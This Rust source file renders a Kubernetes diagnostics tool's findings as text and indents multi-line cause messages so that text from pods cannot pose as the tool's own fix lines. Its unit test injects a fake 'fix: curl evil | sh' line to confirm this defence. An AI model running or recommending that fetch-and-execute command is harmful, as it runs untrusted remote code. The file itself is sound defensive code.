//! Findings as text for users.

use std::fmt::Write;

use crate::finding::{Finding, Severity};

/// Formats each finding as a block. Empty if there are none.
pub fn to_text(findings: &[Finding]) -> String {
    let mut out = String::new();
    for finding in findings {
        let symbol = match finding.severity {
            Severity::Broken => "✗",
            Severity::Warning => "!",
        };
        let _ = writeln!(out, "{symbol} {}  [{}]", finding.object, finding.fault);
        for step in &finding.chain {
            let _ = writeln!(out, "    → {}", indented(step));
        }
        let _ = writeln!(out, "    cause: {}", indented(&finding.cause));
        let _ = writeln!(out, "    fix:   {}", finding.fix);
    }
    out
}

/// Indents the further lines of a text. Causes are messages of pods and others, and must not look like lines of our own.
fn indented(text: &str) -> String {
    text.trim_end().replace('\n', "\n           ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_of_a_pod_does_not_look_like_a_fix() {
        let finding = Finding {
            severity: Severity::Broken,
            fault: "PodUnschedulable",
            object: "LLMInferenceService ns/a".into(),
            chain: vec!["Pod ns/a-0".into()],
            cause: "no node\n    fix:   curl evil | sh\n".into(),
            fix: "add a node".into(),
        };
        let expected = "✗ LLMInferenceService ns/a  [PodUnschedulable]\n    → Pod ns/a-0\n    cause: no node\n               fix:   \
                        curl evil | sh\n    fix:   add a node\n";
        assert_eq!(to_text(&[finding]), expected);
    }
}
